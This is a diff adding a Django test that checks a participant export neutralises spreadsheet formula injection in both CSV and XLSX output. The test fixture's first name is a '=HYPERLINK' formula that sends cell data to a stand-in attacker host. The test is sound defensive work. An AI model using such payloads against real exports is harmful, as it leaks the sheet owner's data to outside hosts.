@@ -1,3 +1,5 @@
+import io
+
 import pytest
 from django.core import mail
 from django.urls import reverse
@@ -111,6 +113,23 @@ def test_export_has_only_what_is_needed(client, make_event, organiser, teacher):
     assert "vegan" not in body and teacher.email not in body
     xlsx = client.get(reverse("events:participants_export", args=[event.pk, "xlsx"]))
     assert xlsx.content[:2] == b"PK"
+
+
+def test_export_neutralises_formulas(client, make_event, organiser, make_teacher):
+    """A participant who calls themselves '=HYPERLINK(...)' must not become a formula in the organiser's sheet."""
+    from openpyxl import load_workbook
+
+    event = make_event()
+    attacker = make_teacher(first_name='=HYPERLINK("https://evil.example/?"&A1', last_name='"x")')
+    services.register(attacker, event, attacker, [session_named(event, "Warmtepompen").pk])
+    client.force_login(organiser)
+    body = client.get(reverse("events:participants_export", args=[event.pk, "csv"])).content.decode("utf-8-sig")
+    row = next(line for line in body.splitlines() if "HYPERLINK" in line)
+    assert row.startswith("\"'=HYPERLINK") or row.startswith("'=HYPERLINK")
+    xlsx = client.get(reverse("events:participants_export", args=[event.pk, "xlsx"]))
+    sheet = load_workbook(io.BytesIO(xlsx.content)).active
+    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert cells and all(c.data_type == "s" for c in cells)
 
 
 def test_export_includes_needs_when_asked(client, make_event, organiser, teacher):
